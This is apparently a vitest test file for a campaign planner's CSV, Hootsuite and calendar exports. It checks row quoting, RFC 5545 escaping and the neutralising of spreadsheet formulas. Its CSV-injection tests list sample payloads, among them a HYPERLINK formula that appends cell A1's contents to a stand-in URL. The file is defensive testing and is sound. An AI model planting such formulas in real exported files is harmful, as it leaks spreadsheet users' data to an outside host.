import { spawnSync } from 'node:child_process';
import { addDays, type Tier, todayIn } from '@captia/shared';
import { parse } from 'csv-parse/sync';
import ICAL from 'ical.js';
import { describe, expect, it } from 'vitest';
import type { Campaign } from '../src/captions/campaigns/campaigns.service';
import { type CalendarLabels, exportCampaign } from '../src/captions/campaigns/export';
import type { ApiBody, ApiQuery } from './api-routes';
import type { TestClient } from './client';
import { test as base } from './fixtures/setup';

/**
 * The planner's files as other programs read them (decision 0049): every cell that holds a line
 * break, a quote or a comma is quoted (RFC 4180), so Python's `csv` and csv-parse read the rows
 * that were written; the spreadsheet CSV neutralises cells a spreadsheet would run as a formula;
 * the calendar's name is escaped as RFC 5545 text.
 */
// The app is fixtures/setup.ts's (createTestApp); its members are premium.
const test = base.extend('plan', 'premium' as Tier);

const BRIEF =
  'Our new lavender soy candles are here: hand-poured in Portland, 40 hours of burn time. $18 each or 3 for $45 until Sunday at Rosa Market.';

/**
 * Python's own reading of a CSV file (utf-8-sig drops the byte-order mark, newline='' as the csv
 * module asks). python3 is on every developer's and CI's machine (the node-svc machine has
 * Python 3.11): without it this test fails saying so, rather than passing without the check.
 */
function pythonRows(text: string): string[][] {
  const script =
    'import csv, io, json, sys\n' +
    "rows = list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8-sig', newline='')))\n" +
    'json.dump(rows, sys.stdout)\n';
  const run = spawnSync('python3', ['-c', script], { input: text, encoding: 'utf8' });
  if (run.error)
    throw new Error(
      `python3 could not be run (${run.error.message}): this test reads the exports with Python's csv module; install Python 3`,
    );
  if (run.status !== 0) throw new Error(`python3 failed: ${run.stderr}`);
  return JSON.parse(run.stdout) as string[][];
}

async function campaignOf(client: TestClient, body: ApiBody<'POST /api/campaigns'>) {
  const res = await client.api('POST /api/campaigns', { body });
  expect(res.status).toBe(201);
  const created = await res.json();
  // The posts as stored, in the order the exports write them.
  return (await client.api('GET /api/campaigns/{id}', { params: { id: created.id } })).json();
}

/** A campaign's file, as text. */
const exported = async (client: TestClient, id: string, query: ApiQuery<'GET /api/campaigns/{id}/export'>) =>
  (await client.api('GET /api/campaigns/{id}/export', { params: { id }, query })).text();

const labels: CalendarLabels = { summary: (post) => `${post.network} post`, alarm: () => 'Time to post' };

/** A stored campaign's shape, for the exports' own checks (cells no post editor would let through). */
function campaignWith(texts: string[], title = 'Test'): Campaign {
  return {
    id: '00000000-0000-4000-8000-000000000000',
    title,
    text: 'brief',
    startDate: '2030-01-01',
    days: texts.length,
    postsPerDay: 1,
    networks: ['instagram'],
    language: 'en-US',
    brandId: null,
    timezone: 'UTC',
    source: 'basic',
    emojis: true,
    hashtags: true,
    createdAt: new Date(0).toISOString(),
    posts: texts.map((text, i) => ({
      id: `00000000-0000-4000-8000-00000000000${i}`,
      campaignId: '00000000-0000-4000-8000-000000000000',
      slot: i,
      position: 0,
      date: addDays('2030-01-01', i),
      time: '11:00',
      network: 'instagram',
      angle: 'tip',
      text,
      hashtags: [],
      length: text.length,
      limit: 2200,
      updatedAt: new Date(0).toISOString(),
    })),
  } as Campaign;
}

describe('CSV exports of generated campaigns read back row for row', () => {
  test('a week on two networks: CSV and Hootsuite files give csv-parse and Python the same rows and text', async ({
    member,
  }) => {
    const { client } = member;
    const campaign = await campaignOf(client, {
      text: BRIEF,
      startDate: addDays(todayIn('UTC'), 1),
      days: 7,
      networks: ['instagram', 'linkedin'],
    });
    expect(campaign.posts).toHaveLength(14);
    // The case that split rows: ordinary captions of several lines with no comma or quote in them.
    const multiLine = campaign.posts.filter((p) => p.text.includes('\n'));
    expect(multiLine.length).toBeGreaterThan(0);
    expect(campaign.posts.some((p) => p.text.includes('\n') && !/[",]/.test(p.text))).toBe(true);

    const csvText = await exported(client, campaign.id, { format: 'csv' });
    const expected = campaign.posts.map((p) => [p.date, p.time, 'UTC', p.network, p.angle, p.text]);
    const fromCsvParse = parse(csvText, { bom: true }) as string[][];
    const fromPython = pythonRows(csvText);
    for (const rows of [fromCsvParse, fromPython]) {
      expect(rows).toHaveLength(campaign.posts.length + 1);
      expect(rows[0]).toEqual(['date', 'time', 'timezone', 'network', 'angle', 'text', 'hashtags']);
      expect(rows.slice(1).map((row) => row.slice(0, 6))).toEqual(expected);
    }

    for (const network of ['instagram', 'linkedin'] as const) {
      const hoot = await exported(client, campaign.id, { format: 'hootsuite', network });
      const posts = campaign.posts.filter((p) => p.network === network);
      const want = posts.map((p) => {
        const [year, month, day] = p.date.split('-');
        return [`${day}/${month}/${year} ${p.time}`, p.text, ''];
      });
      expect(parse(hoot) as string[][], network).toEqual(want);
      expect(pythonRows(hoot), network).toEqual(want);
    }
  });

  it('a cell with a lone CR, a lone LF, CRLF, a quote or a comma is quoted by the library, and reads back whole', () => {
    const texts = ['one\rtwo', 'one\ntwo', 'one\r\ntwo', 'say "hi"', 'a, b', 'plain'];
    const file = exportCampaign(campaignWith(texts), 'csv', undefined, labels).body;
    for (const rows of [parse(file, { bom: true }) as string[][], pythonRows(file)]) {
      expect(rows.slice(1).map((row) => row[5])).toEqual(texts);
    }
    expect(file).toContain('"one\rtwo"');
    expect(file).toContain('"one\ntwo"');
    expect(file).toContain(',plain,');
    const hoot = exportCampaign(campaignWith(texts), 'hootsuite', 'instagram', labels).body;
    for (const rows of [parse(hoot) as string[][], pythonRows(hoot)]) {
      expect(rows.map((row) => row[1])).toEqual(texts);
    }
  });
});

describe('formulas in the CSV (OWASP CSV injection)', () => {
  const risky = [
    '=HYPERLINK("http://example.com/?"&A1,"Click")',
    '+1 555 0100 call us',
    '-20% this week',
    '@SUM(1+1)',
    '\tTabbed',
    '\rCarriage',
    '＝1+1',
  ];

  it('the spreadsheet CSV prefixes a quote to every cell a spreadsheet would run, and quotes it', () => {
    const file = exportCampaign(
      campaignWith([...risky, 'Fresh bread = happy people']),
      'csv',
      undefined,
      labels,
    ).body;
    const cells = (parse(file, { bom: true }) as string[][]).slice(1).map((row) => row[5]);
    expect(cells).toEqual([...risky.map((text) => `'${text}`), 'Fresh bread = happy people']);
    expect(
      pythonRows(file)
        .slice(1)
        .map((row) => row[5]),
    ).toEqual(cells);
    // Quoted whole, so the prefix and the formula stay one cell in any reader.
    expect(file).toContain(`"'=HYPERLINK(""http://example.com/?""&A1,""Click"")"`);
    expect(file).toContain(`"'-20% this week"`);
    expect(file).toContain(`"'@SUM(1+1)"`);
  });

  it('the Hootsuite upload keeps the post as written: it is published as it is (decision 0049)', () => {
    const file = exportCampaign(campaignWith(risky), 'hootsuite', 'instagram', labels).body;
    expect((parse(file) as string[][]).map((row) => row[1])).toEqual(risky);
    expect(pythonRows(file).map((row) => row[1])).toEqual(risky);
  });

  test('through the API: an edited post that starts with = comes out neutralised in the CSV', async ({
    member,
  }) => {
    const { client } = member;
    const campaign = await campaignOf(client, {
      text: BRIEF,
      startDate: addDays(todayIn('UTC'), 1),
      days: 1,
      networks: ['instagram'],
    });
    const [post] = campaign.posts;
    if (!post) throw new Error('no post');
    const formula = '=HYPERLINK("http://example.com","Candles")';
    const edited = await client.api('PATCH /api/campaigns/{id}/posts/{postId}', {
      params: { id: campaign.id, postId: post.id },
      body: { text: formula },
    });
    expect(edited.status).toBe(200);
    const csvText = await exported(client, campaign.id, { format: 'csv' });
    expect((parse(csvText, { bom: true }) as string[][])[1]?.[5]).toBe(`'${formula}`);
    const hoot = await exported(client, campaign.id, { format: 'hootsuite', network: 'instagram' });
    expect((parse(hoot) as string[][])[0]?.[1]).toBe(formula);
  });
});

describe('the calendar', () => {
  it("escapes the campaign's name (NAME, X-WR-CALNAME) as RFC 5545 text, like the descriptions", () => {
    const title = 'Soup, bread; and a back\\slash';
    const file = exportCampaign(campaignWith(['a, b; c'], title), 'ics', undefined, labels).body;
    expect(file).toContain('\r\nNAME:Soup\\, bread\\; and a back\\\\slash\r\n');
    expect(file).toContain('\r\nX-WR-CALNAME:Soup\\, bread\\; and a back\\\\slash\r\n');
    // ical.js reads the description's escapes back (it leaves NAME, which it does not know, raw).
    const calendar = new ICAL.Component(ICAL.parse(file));
    expect(calendar.getFirstSubcomponent('vevent')?.getFirstPropertyValue('description')).toBe('a, b; c');
  });

  test('through the API: a brief whose title has a comma and a semicolon', async ({ member }) => {
    const { client } = member;
    const campaign = await campaignOf(client, {
      text: 'Soup, bread; and more at Café Aurora this Friday.',
      startDate: addDays(todayIn('UTC'), 1),
      days: 1,
      networks: ['instagram'],
    });
    expect(campaign.title).toMatch(/,.*;/);
    const file = await exported(client, campaign.id, { format: 'ics' });
    const name = file.split('\r\n').find((line) => line.startsWith('X-WR-CALNAME:'));
    expect(name).toBe(`X-WR-CALNAME:${campaign.title.replaceAll(',', '\\,').replaceAll(';', '\\;')}`);
  });
});
